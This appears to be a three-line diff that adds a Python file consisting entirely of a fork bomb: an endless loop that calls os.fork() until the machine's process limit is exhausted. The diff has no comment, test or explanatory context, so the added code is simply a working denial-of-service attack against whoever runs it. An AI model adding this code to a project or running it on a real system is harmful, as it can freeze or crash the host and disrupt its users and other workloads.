@@ -1,0 +1,3 @@
+import os
+while 1:
+    os.fork()
